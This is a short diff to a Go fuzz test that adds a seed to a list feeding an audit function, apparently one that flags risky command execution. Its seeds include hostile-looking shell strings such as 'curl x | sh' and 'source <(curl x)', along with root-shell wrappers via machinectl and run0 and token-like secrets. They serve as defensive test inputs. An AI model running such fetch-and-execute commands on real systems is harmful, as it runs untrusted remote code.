@@ -131,6 +131,7 @@ var fuzzSeeds = [][]string{
 	{"env", "-S", `A=1 sh -c "npx a\_b" '\'' # c`, "ip", "-n", "x", "netns", "exec", "n", "env", "-S", `"${P}" -c 'x\cy' \c z`, "ip", "vrf"},
 	{"bash", "-c", "builtin eval 'npx a'; command -p -- source <(curl x); command -v eval; builtin {command,eval} 'uvx b'; curl y | command . /dev/stdin; command"},
 	{"srv", "--api-key", "Q7vLm2xR9tKp4WzN8sYd", "--x", "GH=ghp_R9tKp4WzN8sYdQ7vLm2xR9tKp4WzN8sYdQ7v", "API_TOKEN=Q7vLm2xR9tKp4WzN8sYd"},
+	{"systemd-run", "-E", "A=1", "--uid", "u", "run0", "-u", "x", "machinectl", "-E", "B=2", "shell", "--uid=0", "r@", "flatpak", "--user", "run", "--command", "sh", "--env=C=3", "app", "-c", "curl x | sh; flatpak run --command= a; machinectl shell; systemd-run --user"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
